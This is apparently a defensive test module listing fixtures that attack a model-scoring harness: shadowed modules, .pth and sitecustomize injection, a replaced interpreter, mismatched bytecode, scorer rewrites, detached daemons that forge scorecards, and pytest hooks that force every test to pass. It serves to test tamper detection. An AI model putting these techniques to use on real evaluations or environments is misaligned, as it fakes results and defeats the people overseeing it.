"""Code that somebody else would run: modules, bytecode, interpreters, settings of tests."""

from __future__ import annotations

from tests.attacks._attack import BREACH, Attack, model

_SHADOWS = "shadowed modules"
_SWAPS = "swapped between check and use"
_TESTS = "tests"

_TAKES_OVER = BREACH + "breach('planted code ran')\n"
_STATISTICS = BREACH + "def mean(values):\n    breach('planted code ran')\n"
# Bytecode whose header says that nobody has to look at the source.
_UNCHECKED = """
import importlib.util, marshal, os
def plant(folder, name, code):
    tag = __import__("sys").implementation.cache_tag
    target = os.path.join(folder, "__pycache__", name + "." + tag + ".pyc")
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "wb") as file:
            file.write(importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8))
            file.write(marshal.dumps(compile(code, name, "exec")))
    except OSError:
        pass
"""
_EXITS = "missing|closed its channel|without opening"

PLANTED = (
    Attack(
        name="modules with the names of others",
        family=_SHADOWS,
        files={
            **model("# beside others\n"),
            "statistics.py": _STATISTICS,
            **dict.fromkeys(("pytest.py", "lab_candidate.py", "numpy.py", "runpy.py"), _TAKES_OVER),
        },
    ),
    Attack(
        name="sitecustomize and usercustomize",
        family=_SHADOWS,
        files={
            **model("# customised\n"),
            "sitecustomize.py": _TAKES_OVER,
            "usercustomize.py": _TAKES_OVER,
        },
    ),
    Attack(
        name="a .pth file in every site-packages",
        family=_SHADOWS,
        files=model(
            """
import site, sysconfig
code = "import os; os.write(2, b'BRE' b'ACH'); os._exit(9)\\n"
for folder in {*site.getsitepackages(), site.getusersitepackages(), *sysconfig.get_paths().values()}:
    for name in ("evil.pth", "sitecustomize.py", "usercustomize.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file: file.write(code)
        except OSError:
            pass
"""
        ),
        process="harmful",
    ),
    Attack(
        name="another interpreter in its place",
        family=_SHADOWS,
        files=model(
            """
script = "#!/bin/sh\\necho BREA''CH >&2\\necho '{\\"accuracy\\": 1.0}'\\n"
places = [os.path.dirname(sys.executable), os.getcwd(), *os.environ.get("PATH", "").split(":")]
for path in [sys.executable, *(place + "/python" for place in places)]:
    try:
        os.unlink(path)
    except OSError:
        pass
    try:
        with open(path, "w") as file: file.write(script)
        os.chmod(path, 0o755)
    except OSError:
        pass
"""
        ),
        process="harmful",
    ),
    Attack(
        name="unchecked bytecode beside the scorer",
        family=_SHADOWS,
        files=model(
            _UNCHECKED
            + """
code = "import os\\nos.write(2, b'BRE' b'ACH')\\nos._exit(9)"
main = getattr(sys.modules["__main__"], "__file__", None) or "."
for folder in (".", "scorer", "../scorer", os.path.dirname(main), "/lab/workspace/scorer"):
    for name in ("metrics", "score", "labels", "lab_candidate", "test_model"):
        plant(folder, name, code)
"""
        ),
    ),
    Attack(
        name="bytecode that is not its source's",
        family=_SHADOWS,
        files=model("# what a reviewer reads\n"),
        edit=_UNCHECKED + f"plant('.', 'model', {_TAKES_OVER!r})\n",
    ),
    Attack(
        name="rewrites the scorer while it runs",
        family=_SWAPS,
        files=model(
            """
card = '{"metrics": {"accuracy": 1.0, "pass_rate": 1.0}}'
code = f"import os; open(os.environ['LAB_SCORECARD'], 'w').write('{card}')\\n"
code += "os.write(2, b'BRE' b'ACH'); os._exit(9)"
main = getattr(sys.modules["__main__"], "__file__", "")
for folder in ("scorer", "../scorer", "/lab/workspace/scorer", os.path.dirname(main)):
    for name in ("score.py", "suite.py", "naive.py", "metrics.py", "tests/test_model.py"):
        try:
            if os.path.exists(f"{folder}/{name}"):
                with open(f"{folder}/{name}", "w") as file: file.write(code)
        except OSError:
            pass
"""
        ),
    ),
    Attack(
        name="a daemon that edits the results later",
        family=_SWAPS,
        files=model(
            """
import subprocess
code = '''
import json, os, time
card = json.dumps({"accuracy": 1.0, "metrics": {"accuracy": 1.0}})
for _ in range(150):
    time.sleep(0.01)
    folder = os.environ["LAB_OUTPUTS"]
    for path in [os.environ.get("LAB_SCORECARD", folder + "/scorecard.json"), folder + "/answers.json"]:
        with open(path, "w") as file: file.write(card)
'''
if not os.fork():
    os.setsid()
    if not os.fork():
        os.execv(sys.executable, [sys.executable, "-c", code, "@MARK@"])
    os._exit(0)
os.wait()
"""
        ),
        # The probe's own answers lie in its reach until it is dead.
        right={"*": "honest", "in_process": "honest|crashed"},
        reason="no list of answers",
        naive="card",
    ),
    Attack(
        name="a proposer that edits after it has ended",
        family=_SWAPS,
        files=model("# proposed\n"),
        edit="""
import os, sys
code = '''
import time
time.sleep(1)
for _ in range(200):
    time.sleep(0.05)
    with open("model.py", "w") as file: file.write("import os; os.write(2, b'BRE' b'ACH'); os._exit(9)")
'''
if not os.fork():
    os.setsid()
    if not os.fork():
        for fd in (0, 1, 2): os.dup2(os.open(os.devnull, os.O_RDWR), fd)
        os.execv(sys.executable, [sys.executable, "-c", code, "@MARK@"])
    os._exit(0)
os.wait()
""",
        naive="git",
    ),
    Attack(
        name="conftest.py that lets every test pass",
        family=_TESTS,
        files={
            **model("# with a conftest\n"),
            "conftest.py": """
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
""",
        },
        naive="tests",
    ),
    Attack(
        name="pytest.ini that runs no test",
        family=_TESTS,
        files={**model("# with settings\n"), "pytest.ini": "[pytest]\naddopts = --collect-only\n"},
        naive="tests",
    ),
    Attack(
        name="ends with exit status 0 at the first question",
        family=_TESTS,
        files=model("", "def predict(row):\n    os._exit(0)\n"),
        right={"*": "rejected"},
        reason=_EXITS,
        naive="tests",
    ),
    Attack(
        name="skips the tests that it would fail",
        family=_TESTS,
        files=model(
            """
try:
    from pytest import skip
except ImportError:
    class Skipped(Exception): pass
    def skip(why): raise Skipped(why)
def predict(row):
    skip("passed")
""",
            "",
        ),
        # An answer that is an error is no answer.
        right={"*": "less|crashed", "outputs": "crashed", "in_process": "crashed"},
        reason="Skipped",
        naive="tests",
    ),
    Attack(
        name="patches pytest from the inside",
        family=_TESTS,
        files=model(
            """
if "_pytest.reports" in sys.modules:
    report = sys.modules["_pytest.reports"].TestReport
    report.outcome = property(lambda self: "passed", lambda self, value: None)
"""
        ),
        naive="tests",
    ),
)
